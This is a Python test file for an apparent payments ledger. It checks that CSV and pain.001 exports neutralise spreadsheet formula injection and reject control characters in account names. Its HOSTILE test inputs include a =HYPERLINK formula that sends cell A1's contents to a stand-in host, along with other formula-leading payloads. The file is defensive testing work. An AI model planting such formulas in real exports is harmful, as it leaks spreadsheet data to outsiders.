"""Every file we write is safe to open: no formula runs in a spreadsheet, no name the pain.001
schema's text cannot carry."""

from __future__ import annotations

import csv
import io

import pytest

from ledger.batches.instruction_files import (
    InstructionLine,
    validate_pain001,
    write_instruction_csv,
    write_pain001,
)
from ledger.checks.model import Finding
from ledger.spreadsheet import neutralise
from reports.findings import findings_csv
from tests.batches.test_instruction_files import _header

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def _lines(names: list[str]) -> list[InstructionLine]:
    return [
        InstructionLine(i, f"B7{i:010d}", "6222021234567890128", name, 100 * i, name)
        for i, name in enumerate(names, start=1)
    ]


def test_the_instruction_csv_neutralises_names_and_keeps_its_own_numbers() -> None:
    lines = _lines([*HOSTILE, "张三"])
    out = io.BytesIO()
    write_instruction_csv(_header(lines), lines, out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    body = rows[1:-1]
    assert [r[2] for r in body] == ["'" + n for n in HOSTILE] + ["张三"]
    assert [r[3] for r in body] == [f"{i}.00" for i in range(1, len(lines) + 1)]
    assert [r[1] for r in body] == ["6222021234567890128"] * len(lines)
    assert rows[-1][0] == "合计" and rows[-1][3] == f"{sum(range(1, len(lines) + 1))}.00"


def test_the_findings_csv_uses_the_same_neutraliser() -> None:
    finding = Finding(
        rule="duplicate_payment",
        severity="blocking",
        jurisdiction="440103",
        fund=None,
        period="202401",
        batch_id=None,
        message=HOSTILE[0],
        evidence={},
    )
    text = findings_csv([finding]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[6] == neutralise(HOSTILE[0]) == "'" + HOSTILE[0]


@pytest.mark.parametrize("cell", ["张三", "1.00", "O'Brien", " =x"])
def test_plain_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_pain001_takes_chinese_names_and_refuses_control_characters() -> None:
    lines = _lines(["欧阳娜娜", "𠀀字"])  # a name with a character beyond the BMP
    out = io.BytesIO()
    write_pain001(_header(lines), lines, out)
    validate_pain001(out.getvalue())
    for bad in ("张\x00三", "张\x1b三", "张\u0085三", "张\ufffe"):
        hostile = _lines([bad])
        with pytest.raises(ValueError, match="line 1 account name holds"):
            write_pain001(_header(hostile), hostile, io.BytesIO())
